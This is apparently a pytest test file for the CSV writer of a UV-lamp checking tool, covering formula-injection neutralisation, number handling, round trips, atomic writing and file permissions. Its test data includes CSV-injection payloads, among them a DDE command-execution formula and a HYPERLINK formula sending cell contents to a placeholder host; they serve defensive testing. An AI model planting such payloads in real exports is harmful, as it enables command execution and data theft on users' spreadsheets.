"""CSV output: formula neutralisation, round trip through the csv module, atomic writing.

Formula prefixes = + - @ tab CR after OWASP "CSV Injection" (owasp.org/www-community/attacks/
CSV_Injection), NUL after OWASP ASVS requirement 1.2.10; see uvcheck/report/csvout.py.
"""

from __future__ import annotations

import csv
import io
import os
import stat

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from uvcheck.errors import OutputExistsError
from uvcheck.report.csvout import FORMULA_PREFIXES, cell_text, csv_text, neutralise, write_csv


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("payload", [
    "=1+1", "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")", "+1+1", "-1+1", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\x00=1", "=cmd|' /C calc'!A0", "-", "+", "=", "@",
])
def test_formula_prefixes_get_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload
    # and the csv module keeps the apostrophe and the rest of the cell intact
    assert read_back(csv_text([[payload]])) == [["'" + payload]]


@pytest.mark.parametrize("number", ["-0.5", "+3", "-1e-3", "+2.5E+07", "-.5", "-7.", "0", "12"])
def test_plain_numbers_stay_numbers(number):
    assert neutralise(number) == number


@pytest.mark.parametrize("text", ["UV-C", "Lamp = bright", "lamp@example.invalid", " =1", "µW/cm²",
                                  "", "'already quoted"])
def test_ordinary_text_is_unchanged(text):
    # only the first character matters (OWASP: cells *beginning* with these characters)
    assert neutralise(text) == text


@pytest.mark.parametrize("not_a_number", ["-inf", "-nan", "+1,5", "-1e", "--5", "-0x10", "-1 "])
def test_number_lookalikes_are_neutralised(not_a_number):
    assert neutralise(not_a_number) == "'" + not_a_number


def test_prefix_list_is_the_documented_one():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r", "\x00"}


def test_cells_of_every_type():
    rows = [[None, True, False, 3, -0.5, float("nan"), float("inf"), "=x", "a,b", 'q"q', "line\nbreak"]]
    (back,) = read_back(csv_text(rows))
    assert back == ["", "true", "false", "3", "-0.5", "", "", "'=x", "a,b", 'q"q', "line\nbreak"]


def test_float_text_reads_back_to_the_same_number():
    for x in (0.1, 1 / 3, 2.5e-300, -123456.789, 6.02214076e23):
        assert float(cell_text(x)) == x


def test_header_is_neutralised_and_rfc4180_line_ends():
    text = csv_text([["a", 1]], header=["=name", "value"])
    assert text == "'=name,value\r\na,1\r\n"  # RFC 4180 §2.1: CRLF line ends


def test_write_csv_atomic_and_no_overwrite(tmp_path):
    p = tmp_path / "batch summary ü.csv"  # a space and a non-ASCII letter in the name
    write_csv(p, [["=evil()", -0.5]], header=["product", "E_S"])
    assert p.read_bytes() == b"product,E_S\r\n'=evil(),-0.5\r\n"
    with pytest.raises(OutputExistsError, match="exists.*--force"):
        write_csv(p, [["new"]])
    assert p.read_bytes() == b"product,E_S\r\n'=evil(),-0.5\r\n"
    write_csv(p, [["new"]], force=True)
    assert p.read_bytes() == b"new\r\n"
    assert not list(tmp_path.glob("*.part"))


def test_bom_for_spreadsheets(tmp_path):
    p = tmp_path / "b.csv"
    write_csv(p, [["µW/cm²"]], bom=True)
    assert p.read_bytes().startswith(b"\xef\xbb\xbf")
    assert p.read_bytes().decode("utf-8-sig") == "µW/cm²\r\n"


def test_written_file_is_readable_like_any_new_file(tmp_path):
    # the temporary file is not created 0o600 (as mkstemp would): new files get 0o666 - umask
    mask = os.umask(0)
    os.umask(mask)
    p = write_csv(tmp_path / "m.csv", [["x"]])
    assert stat.S_IMODE(p.stat().st_mode) == 0o666 & ~mask


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.one_of(st.text(max_size=20), st.floats(allow_nan=False),
                                   st.integers(), st.none()), min_size=1, max_size=5),
                min_size=1, max_size=5))
def test_no_cell_can_start_a_formula_and_text_survives(rows):
    back = read_back(csv_text(rows))
    assert len(back) == len(rows)
    for row, got in zip(rows, back):
        assert len(got) == len(row)
        for v, g in zip(row, got):
            if g.startswith(FORMULA_PREFIXES):
                float(g)  # only a plain number may start with + or -
            want = cell_text(v)
            assert g == want or g == "'" + want
